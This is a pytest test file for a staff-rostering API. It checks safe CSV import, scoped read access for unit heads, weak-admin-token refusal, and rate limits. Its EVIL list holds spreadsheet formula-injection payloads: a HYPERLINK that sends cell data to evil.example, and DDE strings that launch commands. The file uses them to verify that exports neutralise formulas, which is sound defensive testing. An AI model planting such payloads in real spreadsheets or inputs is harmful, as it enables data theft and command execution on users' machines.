"""Import safety, formula injection through the API, what heads see, the admin token and the
limits per client and per token (issue reproductions 4, 5, 6 and 10)."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError

from tests.api.helpers import (
    ADMIN,
    HR,
    START,
    auth,
    fresh,
    make_settings,
    make_site,
    run_job,
    token,
    wait_job,
)

HEADER = "id,name,unit,skills,team,counts_toward_cap\n"


def _import(client, site, text: str, mode: str = "replace"):
    return client.post(
        f"/sites/{site}/staff/import",
        params={"mode": mode},
        files={"file": ("staff.csv", text.encode(), "text/csv")},
        headers=HR,
    )


def _staff_csv(client, site, drop: set[str] = frozenset()) -> str:
    staff = client.get(f"/sites/{site}", headers=HR).json()["staff"]
    rows = [
        f"{s['id']},{s['name']},{s['unit']},{';'.join(s['skills'])},,yes"
        for s in staff
        if s["id"] not in drop
    ]
    return HEADER + "\n".join(rows) + "\n"


def test_replace_import_never_drops_records(client):
    """Repro 5: a header-only replace import emptied the site and deleted every absence."""
    site = make_site(client)
    absences = [
        {"staff": "tp01", "start": START, "end": START, "reason": "isolation"},
        {"staff": "dd02", "start": START, "end": START, "reason": "sick"},
    ]
    requests = [{"staff": "tp03", "date": START, "on_site": False}]
    r = client.patch(
        f"/sites/{site}",
        json={"absences": absences, "requests": requests},
        headers=fresh(client, f"/sites/{site}"),
    )
    assert r.status_code == 200, r.text
    before = client.get(f"/sites/{site}", headers=HR).json()
    r = _import(client, site, HEADER)
    assert r.status_code == 422 and "no staff rows" in r.json()["message"], r.text
    r = _import(client, site, _staff_csv(client, site, drop={"tp01", "tp03", "dd05"}))
    assert r.status_code == 409, r.text
    body = r.json()
    assert "nothing was changed" in body["message"]
    assert body["issues"] == [
        {"staff": "tp01", "absences": 1, "requests": 0, "fixed": 0},
        {"staff": "tp03", "absences": 0, "requests": 1, "fixed": 0},
    ]
    after = client.get(f"/sites/{site}", headers=HR).json()
    assert after == before
    # dropping only people without records is fine; merge never drops anyone
    r = _import(client, site, _staff_csv(client, site, drop={"dd05"}))
    assert r.status_code == 200 and r.json()["staff_count"] == 11, r.text
    now = client.get(f"/sites/{site}", headers=HR).json()
    assert now["absences"] == before["absences"] and now["requests"] == before["requests"]
    assert now["version"] == before["version"] + 1
    r = _import(client, site, HEADER + "new1,Mai,tp,,,yes\n", mode="merge")
    assert r.status_code == 200 and r.json()["staff_count"] == 12


EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_names_imported_from_csv_stay_text_in_every_export(client):
    """Repro 4: names imported from a CSV became live formulas in roster.xlsx and raw in CSVs."""
    site = make_site(client)
    rows = "".join(
        f'ev{i},"{n.replace(chr(34), chr(34) * 2)}",tp,,,yes\n' for i, n in enumerate(EVIL)
    )
    r = _import(client, site, HEADER + rows, mode="merge")
    assert r.status_code == 200, r.text
    job = run_job(client, site, "tp", time_limit=2)
    assert job["status"] == "done", job
    rid = job["roster_id"]
    for path in ("roster.csv", "tests.csv"):
        text = client.get(f"/rosters/{rid}/{path}", headers=HR).content.decode("utf-8-sig")
        for line in text.splitlines()[1:]:
            for cell in line.split(","):
                assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), (path, line)
    roster_csv = client.get(f"/rosters/{rid}/roster.csv", headers=HR).content.decode("utf-8-sig")
    assert "'=cmd|" in roster_csv
    data = client.get(f"/rosters/{rid}/roster.xlsx", headers=HR).content
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in EVIL]
    sheets_with = {c.parent.title for c in cells}
    assert len(sheets_with) >= 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.fixture(scope="module")
def sitewide(client):
    """A site-wide roster published by HR, an isolation absence in unit dd, a head of tp."""
    site = make_site(client)
    absence = {"staff": "dd01", "start": START, "end": START, "reason": "isolation"}
    own = {"staff": "tp02", "start": START, "end": START, "reason": "sick"}
    r = client.patch(
        f"/sites/{site}", json={"absences": [absence, own]}, headers=fresh(client, f"/sites/{site}")
    )
    assert r.status_code == 200, r.text
    job = run_job(client, site, None, time_limit=3)
    assert job["status"] == "done", job
    rid = job["roster_id"]
    r = client.post(f"/rosters/{rid}/publish", headers=fresh(client, f"/rosters/{rid}"))
    assert r.status_code == 200, r.text
    return {"site": site, "roster": rid, "head": token(client, "head", site, "tp")}


def test_head_reads_own_unit_of_a_sitewide_roster(client, sitewide):
    """Repro 6: heads got 403 on the site-wide roster, yet read every unit's staff."""
    h, rid = sitewide["head"], sitewide["roster"]
    full = client.get(f"/rosters/{rid}", headers=HR).json()
    assert {a["staff"][:2] for a in full["revision"]["roster"]["assignments"]} == {"tp", "dd"}
    r = client.get(f"/rosters/{rid}", headers=h)
    assert r.status_code == 200, r.text
    mine = r.json()
    assert mine["scope"] == "tp" and full["scope"] is None
    roster = mine["revision"]["roster"]
    assert roster["assignments"] and all(a["staff"].startswith("tp") for a in roster["assignments"])
    assert all(t["staff"].startswith("tp") for t in roster["tests"])
    assert set(roster["teams"]) == {f"tp{i:02d}" for i in range(6)}
    rep = mine["revision"]["report"]
    assert all((p.get("staff") or "tp").startswith("tp") for p in rep["penalties"])
    assert all(p.get("unit") in (None, "tp") for p in rep["penalties"])
    assert rid in {x["id"] for x in client.get("/rosters", headers=h).json()}
    revs = client.get(f"/rosters/{rid}/revisions", headers=h).json()
    assert all(a["staff"].startswith("tp") for r in revs for a in r["roster"]["assignments"])
    for path in ("roster.csv", "tests.csv"):
        text = client.get(f"/rosters/{rid}/{path}", headers=h).content.decode("utf-8-sig")
        ids = {line.split(",")[0] for line in text.splitlines()[1:]}
        assert ids and all(i.startswith("tp") for i in ids), (path, ids)
    data = client.get(f"/rosters/{rid}/roster.xlsx", headers=h).content
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = {str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "tp01" in values and not any(v.startswith("dd0") for v in values)
    assert client.get(f"/rosters/{rid}/calendar/tp01.ics", headers=h).status_code == 200
    assert client.get(f"/rosters/{rid}/calendar/dd01.ics", headers=h).status_code == 404
    # writes stay HR's: the site-wide roster is not the head's to edit or publish
    r = client.patch(f"/rosters/{rid}", json={}, headers=fresh(client, f"/rosters/{rid}", h))
    assert r.status_code == 403


def test_head_reads_only_own_unit_of_the_site(client, sitewide):
    h, site = sitewide["head"], sitewide["site"]
    body = client.get(f"/sites/{site}", headers=h).json()
    assert {s["unit"] for s in body["staff"]} == {"tp"}
    assert [(a["staff"], a["reason"]) for a in body["absences"]] == [("tp02", "sick")]
    assert "isolation" not in client.get(f"/sites/{site}", headers=h).text
    listed = next(s for s in client.get("/sites", headers=h).json() if s["id"] == site)
    assert listed["staff_count"] == 6


def test_head_analyze_and_drill_only_own_unit(client, sitewide):
    h, site, rid = sitewide["head"], sitewide["site"], sitewide["roster"]
    roster = client.get(f"/rosters/{rid}", headers=HR).json()["revision"]["roster"]
    base = {"site_id": site, "start": START, "days": 5, "roster": roster}
    for unit, code in (("dd", 403), (None, 403), ("tp", 200)):
        r = client.post("/rosters/analyze", json={**base, "unit_id": unit}, headers=h)
        assert r.status_code == code, (unit, r.text)
        r = client.post("/repair/analyze", json={**base, "unit_id": unit}, headers=h)
        assert r.status_code == code, (unit, r.text)
    for unit in ("dd", None):
        r = client.post(
            "/repair/drill",
            json={"site_id": site, "unit_id": unit, "start": START, "days": 5, "time_limit": 1},
            headers=h,
        )
        assert r.status_code == 403, r.text
    r = client.post("/repair/analyze", json={"roster_id": rid}, headers=h)
    assert r.status_code == 403  # the site-wide roster's other units are not the head's


def test_weak_admin_token_is_refused_unless_dev(own_backend):
    backend = own_backend
    for weak in ("change-me", "CHANGE-ME", "short-token", "x" * 19):
        with pytest.raises(ValidationError, match="too weak"):
            make_settings(backend, admin_token=weak)
    assert make_settings(backend, admin_token="change-me", dev=True).dev
    assert make_settings(backend, admin_token=ADMIN).admin_token is not None


def test_failed_authentications_are_limited_per_client(own_backend):
    backend = own_backend
    from api.main import create_app

    with TestClient(create_app(make_settings(backend, auth_failures_per_minute=3))) as c:
        for _ in range(5):  # missing credentials are not guesses: not counted
            assert c.get("/sites").status_code == 401
        for i in range(3):
            assert c.get("/sites", headers=auth(f"rst_guess{i}")).status_code == 401
        r = c.get("/sites", headers=auth("rst_guess9"))
        assert r.status_code == 429 and int(r.headers["Retry-After"]) >= 1
        assert "too many failed" in r.json()["message"]
        assert c.get("/sites", headers=HR).status_code == 429  # even a right token: no oracle


def test_queued_jobs_are_limited_per_token(own_backend):
    backend = own_backend
    from api.main import create_app

    settings = make_settings(backend, max_queued_jobs_per_token=2, max_time_limit=5.0)
    with TestClient(create_app(settings)) as c:
        site = make_site(c, name="slow office")
        body = {"site_id": site, "unit_id": "tp", "start": START, "days": 5, "time_limit": 5}
        ids = []
        for _ in range(2):
            r = c.post("/jobs", json=body, headers=HR)
            assert r.status_code == 202, r.text
            ids.append(r.json()["id"])
        r = c.post("/jobs", json=body, headers=HR)
        assert r.status_code == 429 and "at most 2" in r.json()["message"], r.text
        other = token(c, "portal")
        assert c.post("/jobs", json=body, headers=other).status_code == 202  # per token
        for jid in ids:
            c.delete(f"/jobs/{jid}", headers=HR)
        for jid in ids:
            wait_job(c, jid)
        assert c.post("/jobs", json=body, headers=HR).status_code == 202


def test_serve_refuses_the_readme_example_token(monkeypatch, capsys):
    from api.settings import get_settings
    from cli.main import main

    monkeypatch.setenv("ROSTER_ADMIN_TOKEN", "change-me")
    monkeypatch.delenv("ROSTER_DEV", raising=False)
    get_settings.cache_clear()
    try:
        code = main(["serve", "--port", "1"])
    finally:
        get_settings.cache_clear()
    assert code == 2
    assert "ROSTER_ADMIN_TOKEN is too weak" in capsys.readouterr().err
